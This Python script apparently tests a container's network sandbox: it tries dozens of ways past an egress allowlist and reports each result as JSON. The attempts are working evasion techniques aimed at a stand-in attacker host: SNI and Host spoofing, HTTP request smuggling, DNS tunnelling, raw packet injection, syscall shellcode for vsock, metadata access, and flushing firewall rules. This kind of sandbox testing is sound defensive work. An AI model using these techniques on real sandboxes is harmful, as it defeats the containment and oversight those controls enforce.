"""Inside of a container with --allow-net: ways out that are none. Prints what came of each, as JSON by name."""

import ctypes
import json
import mmap
import os
import platform
import socket
import ssl
import struct
import subprocess
import time

os.environ["PATH"] += ":/usr/sbin:/sbin"
ANYTHING = ssl._create_unverified_context()
EVIL, HOST, LAN, METADATA, DNS = "203.0.113.66", "203.0.113.2", "10.9.8.7", "169.254.169.254", "203.0.113.53"


def talk(address: str, port: int, data: bytes = b"GET / HTTP/1.0\r\n\r\n") -> str:
    with socket.create_connection((address, port), 10) as s:
        s.sendall(data)
        return s.recv(1000).decode() or "the end"


def http(host: str, head: str) -> str:
    return talk(host, 80, head.replace("\n", "\r\n").encode())


def tls(address: str, port: int, name: str | None) -> str:
    with socket.create_connection((address, port), 10) as s, ANYTHING.wrap_socket(s, server_hostname=name) as t:
        t.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return t.recv(1000).decode()


def hello(name: str) -> bytes:
    """A ClientHello."""
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        ANYTHING.wrap_bio(into, out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def split_hello(name: str, to: str) -> str:
    """Byte by byte, each in a packet and every few in a record of its own; what comes back is a ServerHello."""
    message = hello(name)[5:]
    with socket.create_connection((to, 443), 10) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(0, len(message), 40):
            part = message[i : i + 40]
            for byte in b"\x16\x03\x01" + struct.pack(">H", len(part)) + part:
                s.sendall(bytes([byte]))
        return f"record {s.recv(1)[0]}"


def datagram(address: str, port: int, data: bytes = b"hello") -> str:
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(data, (address, port))
        return s.recv(1000).decode()


def query(name: str, kind: int = 1) -> bytes:
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)


def ask(name: str, kind: int = 1) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(10)
        s.sendto(query(name, kind), ("127.0.0.11", 53))
        got = s.recv(1000)
        if got[3] & 15:
            raise OSError(f"rcode {got[3] & 15}")
        return f"{got[7]} answers"


def ping(address: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.settimeout(2)
        s.sendto(struct.pack(">BBHHH", 8, 0, 0xF7FC, 1, 2), (address, 0))
        return str(s.recv(100))


def packet(to: str, protocol: int, body: bytes) -> bytes:
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, protocol, 0, socket.inet_aton("198.18.0.1"),
                       socket.inet_aton(to))  # fmt: skip
    total = sum(struct.unpack(">10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    return head[:10] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + head[12:] + body


SYN = struct.pack(">HHIIBBHHH", 4444, 443, 1, 0, 0x50, 2, 1000, 0, 0)


def raw(to: str, protocol: int, body: bytes) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(packet(to, protocol, body), (to, 0))
    return "sent"


def injected(to: str) -> str:
    """Past all rules for what is sent: put on the loopback interface's wire."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x800)) as s:
        body = struct.pack(">HHHH", 4444, 5555, 8, 0)
        s.sendto(packet(to, 17, body), ("lo", 0x800, 0, 0, bytes(6)))
    return "sent"


def vsock() -> str:
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
    return "a socket"


def vsock_32(call: int, *arguments: int) -> str:
    """As 32-bit programs make sockets: their system calls' registers, and for socketcall(2) an array below 4 GiB."""
    if platform.machine() != "x86_64":
        raise OSError("no such calls")
    memory = mmap.mmap(-1, 4096, flags=0x62, prot=7)  # PRIVATE, ANONYMOUS, 32BIT
    base = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    memory[2048:2060] = struct.pack("<3I", 40, 1, 0)
    ebx, ecx, edx = [base + 2048 if a < 0 else a for a in arguments]
    registers = ((0xB8, call), (0xBB, ebx), (0xB9, ecx), (0xBA, edx))
    loads = [struct.pack("<BI", load, value) for load, value in registers]
    memory[:25] = b"\x53" + b"".join(loads) + b"\xcd\x80\x5b\xc3"
    made = ctypes.CFUNCTYPE(ctypes.c_int)(base)()
    if made < 0:
        raise OSError(-made, os.strerror(-made))
    return "a socket"


def second_request(to: str, first: str, then: bytes) -> str:
    """What comes back of the second of two in one connection."""
    with socket.create_connection((to, 80), 10) as s:
        s.sendall(first.replace("\n", "\r\n").encode() + then)
        head = s.recv(1000)
        while more := s.recv(1000):
            head += more
        return "the end" if head.count(b"200 OK") == 1 else f"{head!r}"


def turns() -> str:
    """A name that leads elsewhere once it was looked at."""
    asked = "GET / HTTP/1.1\nHost: turns.test\n\n"
    http("turns.test", asked)
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        try:
            http("turns.test", asked)
        except OSError as e:
            return f"failed: {e}"
        time.sleep(0.2)
    return "no change"


def command(*words: str) -> None:
    subprocess.run(words, check=True, capture_output=True)


def flood() -> str:
    """Names that say something, all below a domain that is allowed."""
    good = 0
    for i in range(150):
        try:
            ask(f"{os.urandom(20).hex()}-{i}.pythonhosted.test")
            good += 1
        except OSError:
            pass
    return f"{good} answers"


def other_routes() -> str:
    """The container may change them (it has NET_ADMIN): a way out through an interface of its own."""
    command("ip", "link", "add", "way", "type", "veth", "peer", "name", "out")
    command("ip", "link", "set", "way", "up")
    command("ip", "link", "set", "out", "up")
    command("ip", "address", "add", "203.0.113.9/24", "dev", "way")
    command("ip", "route", "replace", "default", "via", "203.0.113.1", "dev", "way")
    try:
        return talk(EVIL, 443)
    finally:
        try:
            datagram(EVIL, 4433)
        except OSError:
            pass


def other_rules() -> str:
    """It takes the rules away, and claims another destination before the relay sees it."""
    command("nft", "flush", "ruleset")
    command("nft", "add table ip t; add chain ip t o { type nat hook output priority -100; };"
            "add rule ip t o tcp dport 4430 dnat to 127.0.0.1:61054")  # fmt: skip
    return talk(EVIL, 4430)


ATTEMPTS = {
    "allowed": lambda: tls("pypi.test", 443, "pypi.test"),
    "allowed, split": lambda: split_hello("pypi.test", "pypi.test"),
    "allowed http": lambda: http("pypi.test", "GET / HTTP/1.1\nHost: PyPI.test:80\n\n"),
    "allowed address": lambda: talk(LAN, 5432, b"echo"),
    "allowed plain": lambda: talk("files.pythonhosted.test", 22, b"echo"),
    "direct IP": lambda: tls(EVIL, 443, "pypi.test"),
    "direct IP of an allowed name": lambda: tls("203.0.113.10", 443, "pypi.test"),
    "other name": lambda: tls("evil.test", 443, "evil.test"),
    "other name server": lambda: datagram(EVIL, 53, query("evil.test")),
    "other name server, TCP": lambda: talk(DNS, 53, query("evil.test")),
    "DoH by address": lambda: tls(DNS, 443, "dns.test"),
    "DoH by name": lambda: tls("dns.test", 443, "dns.test"),
    "DoT": lambda: tls(DNS, 853, "dns.test"),
    "DoT at an allowed name": lambda: tls("pypi.test", 853, "pypi.test"),
    "QUIC": lambda: datagram("pypi.test", 443),
    "wrong SNI": lambda: tls("pypi.test", 443, "evil.test"),
    "wrong SNI, split": lambda: split_hello("evil.test", "pypi.test"),
    "SNI of a neighbour": lambda: tls("pypi.test", 443, "neighbour.test"),
    "no SNI": lambda: tls("pypi.test", 443, None),
    "no TLS": lambda: talk("pypi.test", 443, b"SSH-2.0-x\r\n"),
    "Host mismatch": lambda: http("pypi.test", "GET / HTTP/1.1\nHost: evil.test\n\n"),
    "no Host": lambda: http("pypi.test", "GET / HTTP/1.0\n\n"),
    "two Hosts": lambda: http("pypi.test", "GET / HTTP/1.1\nHost: pypi.test\nHost: evil.test\n\n"),
    "a Host of two lines": lambda: http("pypi.test", "GET / HTTP/1.1\nHost:\n evil.test\n\n"),
    "proxy's request": lambda: http("pypi.test", "GET http://evil.test/ HTTP/1.1\nHost: pypi.test\n\n"),
    "CONNECT": lambda: http("pypi.test", "CONNECT evil.test:443 HTTP/1.1\nHost: pypi.test\n\n"),
    "IPv6": lambda: tls("2001:db8::10", 443, "pypi.test"),
    "IPv6 datagram": lambda: datagram("2001:db8::10", 443),
    "raw TCP": lambda: raw(EVIL, 6, SYN),
    "raw protocol": lambda: raw(EVIL, 47, b"hello"),
    "injected": lambda: injected(EVIL),
    "ICMP": lambda: ping(EVIL),
    "vsock": vsock,
    "vsock, 32 bits": lambda: vsock_32(359, 40, 1, 0),
    "vsock, socketcall": lambda: vsock_32(102, 1, -1, 0),
    "qrtr": lambda: str(socket.socket(42, socket.SOCK_DGRAM)),
    "mapped address": lambda: tls(f"::ffff:{EVIL}", 443, "pypi.test"),
    "SNI with a dot": lambda: split_hello("pypi.test.", "pypi.test"),
    "second request": lambda: second_request("pypi.test", "GET / HTTP/1.1\nHost: pypi.test\n\n",
                                             b"GET / HTTP/1.1\r\nHost: second.evil.test\r\n\r\n"),
    "behind a body": lambda: second_request("pypi.test", "POST / HTTP/1.1\nHost: pypi.test\nContent-Length: 3\n\n",
                                            b"GETGET / HTTP/1.1\r\nHost: body.evil.test\r\n\r\n"),
    "behind chunks": lambda: second_request("pypi.test",
                                            "POST / HTTP/1.1\nHost: pypi.test\nTransfer-Encoding: chunked\n\n",
                                            b"3\r\nGET\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: chunks.evil.test\r\n\r\n"),
    "two lengths": lambda: http("pypi.test", "POST / HTTP/1.1\nHost: pypi.test\nContent-Length: 0\n"
                                             "Transfer-Encoding: chunked\n\n"),
    "h2c": lambda: second_request("files.pythonhosted.test",
                                  "GET / HTTP/1.1\nHost: files.pythonhosted.test\nUpgrade: h2c\n"
                                  "Connection: Upgrade, HTTP2-Settings\nHTTP2-Settings: \n\n",
                                  b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    "host by its second address": lambda: http("second.test", "GET / HTTP/1.1\nHost: second.test\n\n"),
    "host by routers' address": lambda: http("shared.test", "GET / HTTP/1.1\nHost: shared.test\n\n"),
    "a name of 0.0.0.0": lambda: http("zero.test", "GET / HTTP/1.1\nHost: zero.test\n\n"),
    "a name of loopback": lambda: http("loop.test", "GET / HTTP/1.1\nHost: loop.test\n\n"),
    "a name of a mapped address": lambda: http("mapped.test", "GET / HTTP/1.1\nHost: mapped.test\n\n"),
    "a name of a bridge": lambda: http("gateway.test", "GET / HTTP/1.1\nHost: gateway.test\n\n"),
    "a name that turns": turns,
    "metadata": lambda: talk(METADATA, 80),
    "metadata by name": lambda: http("meta.test", "GET / HTTP/1.1\nHost: meta.test\n\n"),
    "host": lambda: talk(HOST, 80),
    "host by name": lambda: http("me.test", "GET / HTTP/1.1\nHost: me.test\n\n"),
    "LAN": lambda: talk(LAN, 80),
    "LAN by name": lambda: http("lan.test", "GET / HTTP/1.1\nHost: lan.test\n\n"),
    "the relay itself": lambda: talk("127.0.0.1", 61054),
    "TXT": lambda: ask("pypi.test", 16),
    "long name": lambda: ask(".".join(["a" * 60] * 3) + ".evil.test"),
    "long name below an allowed one": lambda: ask("a" * 40 + "." + "b" * 40 + ".pythonhosted.test"),
    "many names": flood,
    "other routes": other_routes,
    "other rules": other_rules,
}  # fmt: skip

found = {}
for name, attempt in ATTEMPTS.items():
    try:
        found[name] = attempt()
    except (OSError, ssl.SSLError, subprocess.CalledProcessError) as e:
        found[name] = f"failed: {e}"
print(json.dumps(found))
